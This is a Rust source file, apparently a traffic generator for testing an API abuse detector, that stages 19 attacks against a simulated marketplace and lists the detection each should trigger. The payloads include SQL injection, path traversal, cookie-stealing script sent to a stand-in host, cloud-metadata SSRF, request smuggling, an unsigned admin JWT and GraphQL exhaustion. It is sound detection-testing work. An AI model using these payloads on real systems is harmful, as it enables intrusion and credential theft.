//! Those who abuse the market, each as its tools do: customers who are known, and then do more.

use std::fmt::Write as _;

use serde_json::Value;

use super::market::{
    self, HONEST, Market, graph, home, import, list, order, product, profile, put, refund, token,
    upload,
};
use super::stage::Call;

const HOUR: u64 = 3_600;
/// Letters and figures of a token that nobody signed.
const UNSIGNED: &str = "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIiwicm9sZSI6ImFkbWluIn0.";

/// What is done to objects, functions, flows and values.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Abuse {
    WalkingIds,
    LowAndSlow,
    WalkingPartnerOrders,
    Refunding,
    Promotion,
    Scraping,
    Emptying,
    ManyAtOnce,
    DeepQuery,
    ManyAliases,
    SkippedPayment,
    SqlError,
    BlindSql,
    Traversal,
    Script,
    ServerRequest,
    Smuggling,
    UnsignedToken,
    Scanning,
}

impl Abuse {
    pub(super) const ALL: [Self; 19] = [
        Self::WalkingIds,
        Self::LowAndSlow,
        Self::WalkingPartnerOrders,
        Self::Refunding,
        Self::Promotion,
        Self::Scraping,
        Self::Emptying,
        Self::ManyAtOnce,
        Self::DeepQuery,
        Self::ManyAliases,
        Self::SkippedPayment,
        Self::SqlError,
        Self::BlindSql,
        Self::Traversal,
        Self::Script,
        Self::ServerRequest,
        Self::Smuggling,
        Self::UnsignedToken,
        Self::Scanning,
    ];

    /// What may tell of whoever does it; the first must.
    pub(super) const fn detections(self) -> &'static [&'static str] {
        match self {
            Self::WalkingIds | Self::LowAndSlow => &["object_enumeration"],
            Self::WalkingPartnerOrders => &["object_enumeration", "function_level_authorization"],
            Self::Refunding => &["function_level_authorization"],
            Self::Promotion => &["mass_assignment"],
            Self::Scraping => &["scraping", "object_enumeration"],
            Self::Emptying => &["exfiltration", "scraping"],
            Self::ManyAtOnce | Self::DeepQuery | Self::ManyAliases => &["resource_exhaustion"],
            Self::SkippedPayment => &["flow_violation"],
            Self::SqlError | Self::BlindSql | Self::Traversal | Self::Script => &["injection"],
            Self::ServerRequest => &["server_request_forgery"],
            Self::Smuggling => &["request_smuggling"],
            Self::UnsignedToken => &["jwt_abuse"],
            Self::Scanning => &["path_scanner"],
        }
    }

    /// What may tell of the endpoint where it is done, and of no one.
    pub(super) fn traces(finding: &Value) -> bool {
        let template = finding["endpoint"]["template"].as_str();
        match finding["detection"].as_str().unwrap() {
            // Scraping and emptying show in how often things are asked for, there or on the host.
            "rate_surge" => {
                matches!(template, None | Some("/api/products/{productId}" | "/api/contacts"))
            }
            // So does a list without end.
            "excessive_records" => template == Some("/api/products"),
            _ => false,
        }
    }

    /// Who does it.
    pub(super) fn customer(self) -> u64 {
        HONEST + Self::ALL.iter().position(|it| *it == self).unwrap() as u64
    }

    /// Hours that it takes.
    pub(super) const HOURS: u64 = 6;

    /// Does it, beginning with a second.
    pub(super) fn run(self, market: &mut Market, from: u64) {
        self.collect(market, from);
        self.overstep(market, from);
        self.inject(market, from);
        self.forge(market, from);
    }

    /// Takes what belongs to others, or all there is.
    fn collect(self, market: &mut Market, from: u64) {
        let (client, head) = (home(self.customer()), token(self.customer()));
        let get = |market: &mut Market, at: u64, path: &str, answer: String| {
            market.stage.call(at, client, &Call::get(path, &head, answer));
        };
        match self {
            Self::WalkingIds => {
                for (id, at) in (50_200..50_260).zip((from..).step_by(4)) {
                    get(market, at, &format!("/api/orders/{id}"), order(id));
                }
            }
            Self::LowAndSlow => {
                for at in (from..from + Self::HOURS * HOUR).step_by(2_000) {
                    let id = 50_000 + market.stage.dice.below(1_200);
                    get(market, at, &format!("/api/orders/{id}"), order(id));
                }
            }
            Self::WalkingPartnerOrders => {
                for (id, at) in (900_000..900_040).zip((from..).step_by(9)) {
                    get(market, at, &format!("/api/partner/orders/{id}"), order(id));
                }
            }
            Self::Scraping => {
                for (page, at) in (0..40).zip((from..).step_by(60)) {
                    let shown: Vec<u64> = (page * 20..page * 20 + 20).collect();
                    let path = format!("/api/products?limit=20&page={page}");
                    get(market, at, &path, list(&shown, product));
                    for (&id, after) in shown.iter().zip((2..).step_by(2)) {
                        get(market, at + after, &format!("/api/products/{id}"), product(id));
                    }
                }
            }
            Self::Emptying => {
                for (page, at) in (0..30).zip((from..).step_by(20)) {
                    let shown: Vec<u64> = (page * 50..page * 50 + 50).collect();
                    let path = format!("/api/contacts?limit=50&page={page}");
                    get(market, at, &path, list(&shown, market::contact));
                }
            }
            Self::ManyAtOnce => {
                let shown: Vec<u64> = (0..900).collect();
                get(market, from, "/api/products?limit=100000&page=0", list(&shown, product));
            }
            _ => {}
        }
    }

    /// Does what is not for it to do.
    fn overstep(self, market: &mut Market, from: u64) {
        let (client, head) = (home(self.customer()), token(self.customer()));
        match self {
            Self::Refunding => {
                for at in [from, from + 40, from + 90] {
                    market.stage.call(at, client, &refund(&head, 50_001));
                }
            }
            Self::Promotion => {
                let sent = r#"{"name":"Customer","city":"City 1","role":"admin"}"#.to_owned();
                market.stage.call(from, client, &put("/api/users/me", &head, sent, profile(1)));
            }
            Self::DeepQuery => {
                let query = format!("{{ me {}{} }}", "{ friends ".repeat(20), "}".repeat(20));
                market.stage.call(from, client, &graph(&head, &query));
            }
            Self::ManyAliases => {
                let mut query = String::from("{ ");
                for alias in 0..80 {
                    write!(query, "a{alias}: login(pin: {alias}) ").unwrap();
                }
                query.push('}');
                market.stage.call(from, client, &graph(&head, &query));
            }
            Self::SkippedPayment => {
                for at in [from, from + 400, from + 800] {
                    market.buy(self.customer(), at, false);
                }
            }
            _ => {}
        }
    }

    /// Sends what is meant to be run or followed.
    fn inject(self, market: &mut Market, from: u64) {
        let (client, head) = (home(self.customer()), token(self.customer()));
        match self {
            Self::SqlError => {
                let path = "/api/search?q=zz%27%20union%20select%20name,pw%20from%20users--";
                let answer = r#"{"error":"SQLSTATE[42000]: Syntax error"}"#.to_owned();
                let call = Call { status: 500, ..Call::get(path, &head, answer) };
                market.stage.call(from, client, &call);
            }
            Self::BlindSql => {
                for (turn, at) in (0..12).zip((from..).step_by(15)) {
                    let path = format!("/api/search?q=1%27%20AND%20SUBSTR(pw,{turn},1)=%27a");
                    market.stage.call(at, client, &Call::get(&path, &head, "[]".to_owned()));
                }
            }
            Self::Traversal => {
                let call = upload(&head, "../../../../etc/cron.d/job");
                market.stage.call(from, client, &call);
            }
            Self::Script => {
                let sent = r#"{"name":"<script>fetch('//x.test/'+document.cookie)</script>"}"#;
                let call = put("/api/users/me", &head, sent.to_owned(), profile(self.customer()));
                market.stage.call(from, client, &call);
            }
            Self::ServerRequest => {
                let call = import(&head, "http://169.254.169.254/latest/meta-data/iam/");
                market.stage.call(from, client, &call);
            }
            _ => {}
        }
    }

    /// Sends what nobody would who was asked to.
    fn forge(self, market: &mut Market, from: u64) {
        let (client, head) = (home(self.customer()), token(self.customer()));
        match self {
            Self::Smuggling => {
                let request = format!(
                    "POST /api/cart/items HTTP/1.1\r\nHost: market.example\r\n{head}\
                     Content-Type: application/json\r\nContent-Length: 6\r\n\
                     Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
                );
                market.stage.exchange(from, client, request.into_bytes(), 200, "{}");
            }
            Self::UnsignedToken => {
                let head = format!("Authorization: Bearer {UNSIGNED}\r\n");
                let call = Call::get("/api/users/me", &head, profile(1));
                market.stage.call(from, client, &call);
            }
            Self::Scanning => {
                for (turn, at) in (0..60).zip((from..).step_by(3)) {
                    let answer = r#"{"error":"not found"}"#.to_owned();
                    let path = format!("/backup{turn}/{}", ["env", "sql", "zip"][turn % 3]);
                    let call = Call { status: 404, ..Call::get(&path, &head, answer) };
                    market.stage.call(at, client, &call);
                }
            }
            _ => {}
        }
    }
}
